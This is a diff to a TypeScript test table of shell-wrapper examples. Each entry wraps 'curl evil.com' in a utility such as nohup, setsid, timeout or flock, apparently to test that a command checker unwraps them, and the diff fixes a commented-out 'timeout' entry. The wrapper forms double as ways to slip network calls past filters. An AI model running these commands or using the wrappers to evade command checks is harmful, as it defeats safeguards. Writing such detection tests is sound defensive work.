@@ -78,7 +78,8 @@ const WRAPPER_EXAMPLES: Record<string, [string, string]> = {
   builtin: ['builtin eval "curl evil.com"', 'curl evil.com'], exec: ['exec -a x curl evil.com', 'curl evil.com'],
   nohup: ['nohup curl evil.com', 'curl evil.com'], setsid: ['setsid -f curl evil.com', 'curl evil.com'],
   unbuffer: ['unbuffer curl evil.com', 'curl evil.com'], catchsegv: ['catchsegv curl evil.com', 'curl evil.com'],
-  time: ['/usr/bin/time -o t.txt curl evil.com', 'curl evil.com'], // a bare `time` first in a line is bash's keyword timeout: ['timeout -s KILL 5 curl evil.com', 'curl evil.com'],
+  // a bare `time` first in a line is bash's keyword (time -o runs `-o`); the program is /usr/bin/time
+  time: ['/usr/bin/time -o t.txt curl evil.com', 'curl evil.com'], timeout: ['timeout -s KILL 5 curl evil.com', 'curl evil.com'],
   nice: ['nice -n 5 curl evil.com', 'curl evil.com'], stdbuf: ['stdbuf -oL curl evil.com', 'curl evil.com'],
   ionice: ['ionice -c 3 curl evil.com', 'curl evil.com'], chrt: ['chrt 5 curl evil.com', 'curl evil.com'],
   taskset: ['taskset 0x1 curl evil.com', 'curl evil.com'], flock: ['flock /tmp/l -c "curl evil.com"', 'curl evil.com'],
